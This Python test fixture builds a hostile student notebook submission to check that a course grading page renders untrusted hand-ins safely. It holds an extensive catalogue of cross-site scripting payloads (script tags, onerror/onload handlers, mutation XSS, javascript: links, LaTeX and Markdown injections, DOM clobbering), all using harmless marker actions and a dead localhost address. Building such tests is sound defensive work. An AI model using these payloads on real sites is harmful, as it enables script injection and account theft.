"""What a hostile student plants in a hand-in, so that a page that shows it would act on it.

Everything tries the same three things: a dialog, a variable that ``PROBE`` reads, and a request
whose address has the word ``planted``.
"""

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

from course_utils.grading.course import cells_by_grade_id

PROBE = "() => window.planted"
ACT = "window.planted=1;alert(1);fetch('/planted')"
AWAY = "http://127.0.0.1:9/planted"  # the port where nobody listens
# Plain HTML, by what it tries. A page that holds any of these as it is gives itself away.
MARKUP = {
    "script": f"<script>{ACT}</script>",
    "remote script": f'<script src="{AWAY}.js"></script>',
    "onerror": f'<img src="planted.png" onerror="{ACT}">',
    "onload of an SVG": f'<svg onload="{ACT}"><circle r="9"/></svg>',
    "script in an SVG": f"<svg><script>{ACT}</script></svg>",
    "script in MathML": f"<math><mtext><script>{ACT}</script></mtext></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={ACT}&gt;">',
    "unclosed attribute": f'<div title="<img src=planted onerror={ACT}>',
    "iframe": f'<iframe src="{AWAY}"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
    "data page": f'<iframe src="data:text/html,<script>{ACT}</script>"></iframe>',
    "object": f'<object data="{AWAY}"></object><embed src="{AWAY}">',
    "remote picture": f'<img src="{AWAY}.png">',
    "picture of the server": '<img src="/formgrader/formgrader?path=planted">',
    "picture one up": '<img src="../../formgrader?path=planted">',
    "srcset": f'<img src="x.png" srcset="{AWAY}.png 1x">',
    "picture as SVG": "<img src=\"data:image/svg+xml,"
    f"<svg xmlns='http://www.w3.org/2000/svg' onload='{ACT}'/>\">",
    "style": f"<style>body {{ background: url({AWAY}) }} @import '{AWAY}.css';</style>",
    "style attribute": f'<p style="background: url({AWAY})">x</p>',
    "stylesheet": f'<link rel="stylesheet" href="{AWAY}.css">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={AWAY}">',
    "base": f'<base href="{AWAY}/">',
    "autofocus": f'<input autofocus onfocus="{ACT}">',
    "details": f'<details open ontoggle="{ACT}"><summary>x</summary></details>',
    "audio": f'<audio src="{AWAY}" onerror="{ACT}" autoplay></audio>',
    "clobbering": '<form id="submission_id"></form><a id="base_url"></a><input name="body">',
    "form": f'<form action="{AWAY}" id="f"><button autofocus>Enviar</button></form>',
    "closing tags": f"</div></div></main></body></html><script>{ACT}</script>",
    "closing textarea": f"</textarea></title></style><script>{ACT}</script>",
    "plotly": f'<div id="p"></div><script type="module">{ACT};Plotly.newPlot("p")</script>',
}  # fmt: skip
LINKS = [
    "[enlace](javascript:window.planted=1)",
    "[enlace](data:text/html,<script>window.planted=1</script>)",
    "[enlace](/planted)",
    '<a href="javascript:window.planted=1">enlace</a>',
    '<a href=" java&#10;script:window.planted=1">enlace</a>',
    "<javascript:window.planted=1>",
]
FORMULAS = [
    r"$\href{javascript:window.planted=1}{x}$",
    r"$\text{<img src=planted onerror=window.planted=1>}$",
    r"$\class{x' onmouseover='window.planted=1}{x}$",
    r"![$\text{\" onerror=\"window.planted=1}$](planted.png)",
    r"$$\unicode{x3c}script>window.planted=1</script>$$",
    r"\begin{<script>window.planted=1</script>}x\end{<script>window.planted=1</script>}",
    f"$<script>{ACT}</script>$",
]
MARKDOWN = [
    f"![x]({AWAY}.png)",
    '![x" onerror="window.planted=1](planted.png)',
    "![pegada](attachment:planted.png)",
    "```python\n</code></pre><script>window.planted=1</script>\n```",
    f"```mermaid\ngraph TD; a-->b</pre><script>{ACT}</script>\n```",
]
SCRIPT = f"<script>{ACT}</script>"
# Further outputs, as the data of an output or with its metadata.
BUNDLES = [
    {"application/javascript": ACT},
    {"application/javascript": ACT, "text/html": SCRIPT},
    {"application/vnd.jupyter.widget-view+json": {"model_id": "planted"}},
    {"application/vnd.planted": SCRIPT},
    {"image/png": f'x" onerror="{ACT}'},
    {"image/svg+xml": f'"><script>{ACT}</script>'},
    {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}">{SCRIPT}</svg>'},
    {"text/latex": SCRIPT},
    {"text/plain": f"\x1b[31m{SCRIPT}\x1b]8;;javascript:1\x07"},
]
OUTPUTS = f"""
from IPython.display import HTML, Markdown, display
for markup in {list(MARKUP.values())!r}:
    display(HTML(markup))
for text in {LINKS + FORMULAS + MARKDOWN!r}:
    display(Markdown(text))
for bundle in {BUNDLES!r}:
    display(bundle, raw=True)
    display(bundle, raw=True, metadata={{"isolated": True, "text/html": {{"isolated": True}}}})
print({SCRIPT!r})
"""
ERROR = f"raise ValueError({MARKUP['onerror']!r})"


def text() -> str:
    """All that Markdown may try, in one text."""
    return "\n\n".join([*MARKUP.values(), *LINKS, *FORMULAS, *MARKDOWN])


def plant(released: NotebookNode, unit: str) -> NotebookNode:
    """A hand-in that plants everything everywhere: answers, reflection, cells of its own."""
    cells = cells_by_grade_id(released)
    for number, markup in enumerate(MARKUP.values(), start=1):  # one exercise after the other
        cell = cells.get(f"{unit}-ej{number}")
        if cell is not None:
            cell.source += f"\n# </pre>{markup}\n"
    cells[f"{unit}-ej1"].source = OUTPUTS + ERROR
    cells[f"{unit}-reflexion"].source = text()
    released.cells[1:1] = [new_markdown_cell(text()), new_code_cell(OUTPUTS)]
    released.cells += [new_markdown_cell(markup) for markup in MARKUP.values()]
    return released
